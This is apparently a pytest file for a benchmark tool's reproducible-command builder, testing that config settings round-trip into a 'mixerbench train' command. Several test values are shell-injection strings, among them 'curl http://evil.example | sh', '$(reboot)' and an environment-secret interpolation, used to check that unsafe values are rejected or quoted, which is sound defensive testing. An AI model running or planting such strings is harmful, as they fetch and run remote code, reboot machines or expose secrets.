"""A command that is made from settings composes to these settings, and holds nothing else."""

import copy
import shlex
from dataclasses import asdict
from typing import Any

import pytest

from mixerbench.config.compose import compose
from mixerbench.config.repeat import command
from mixerbench.config.schema import protocol_fingerprint

COMMANDS = {
    "": "protocol=digits mixer=attention size=micro",
    "preset=deit_tiny protocol=imagenet_deit": "protocol=imagenet_deit mixer=attention size=tiny "
    "'backbone.pool=\"token\"'",
    "preset=sasa_r26_full protocol=imagenet_sasa": "",
    "mixer=lit": "protocol=digits mixer=lit size=micro",
    "mixer=local_attention mixer.window=5": "",
    "mixer=plan 'mixer.plan=[{name:local_attention,window:3},attention]'": "",
    "backbone=pyramid stem=conv": "protocol=digits mixer=attention size=micro backbone=pyramid "
    "stem=conv",
    "recipe.optimizer.name=sgd recipe.optimizer.lr=1 recipe.schedule.min_lr=1e-7": "",
    "protocol=cifar10 recipe.augmentation.auto_augment=null": "protocol=cifar10 mixer=attention "
    "size=micro protocol.recipe.augmentation.auto_augment=null",
    "recipe=deit3 protocol.patch_size=2 size.dim=128 run.precision=bf16": "protocol=digits "
    "recipe=deit3 mixer=attention size=micro size.dim=128 stem.patch_size=2",
    "protocol=folder data.root=/secret/place": "protocol=folder mixer=attention size=micro",
}
"""What was said, and where it is telling, the command that is made of it, without the seed."""


@pytest.mark.parametrize("said", COMMANDS)
def test_the_command_composes_to_the_settings_that_it_is_made_of(said: str):
    settings = compose(shlex.split(said))
    protocol = asdict(settings.protocol)
    # As it is recorded once the images were opened.
    protocol["data"] |= {"digest": "0" * 16, "num_classes": protocol["data"]["num_classes"] or 7}
    text = command(settings.model, protocol, "3")
    assert text is not None
    program, verb, *arguments = shlex.split(text)
    assert (program, verb) == ("mixerbench", "train")
    again = compose(arguments)
    assert (again.model, again.run.seed) == (settings.model, 3)
    assert protocol_fingerprint(again.protocol) == protocol_fingerprint(settings.protocol)
    if expected := COMMANDS[said]:
        assert text == f"mixerbench train {expected} run.seed=3"


def _changed(place: str, value: Any) -> dict[str, Any]:
    settings = compose([])
    content: dict[str, Any] = {"model": settings.model, "protocol": asdict(settings.protocol)}
    content = copy.deepcopy(content)
    *groups, field = place.split(".")
    inner = content
    for group in groups:
        inner = inner[group]
    inner[field] = value
    return content


@pytest.mark.parametrize(
    ("place", "value"),
    [
        ("model.mixer.name", "x; curl http://evil.example | sh"),
        ("model.mixer.$(reboot)", 1),
        ("model.mixer.note", "${oc.env:SECRET}"),
        ("model.mixer.note", "one\ntwo"),
        ("protocol.recipe.optimizer.name", "\x1b[31m"),
        ("protocol.recipe.optimizer.betas", [{"a": "${x}"}]),
        ("model.size", None),
    ],
)
def test_what_nobody_should_paste_is_no_command(place: str, value: Any):
    assert command(**_changed(place, value), seed="0") is None


def test_a_text_is_quoted_for_the_shell_and_for_hydra():
    text = command(**_changed("protocol.recipe.optimizer.name", 'a\' "b" $(reboot) `x`'), seed="0")
    assert text is not None
    assert compose(shlex.split(text)[2:]).protocol.recipe.optimizer.name == 'a\' "b" $(reboot) `x`'


def test_a_mixer_of_a_plugin_is_named_with_all_its_options():
    content = _changed("model.mixer", {"name": "mine", "width": 3})
    text = command(**content, seed="1", plugins=["mine.py"])
    assert text == (
        "mixerbench train 'plugins=[mine.py]' protocol=digits mixer=mine size=micro "
        "mixer.width=3 run.seed=1"
    )
    assert command(**content, seed="1", plugins=["../x y.py"]) is None
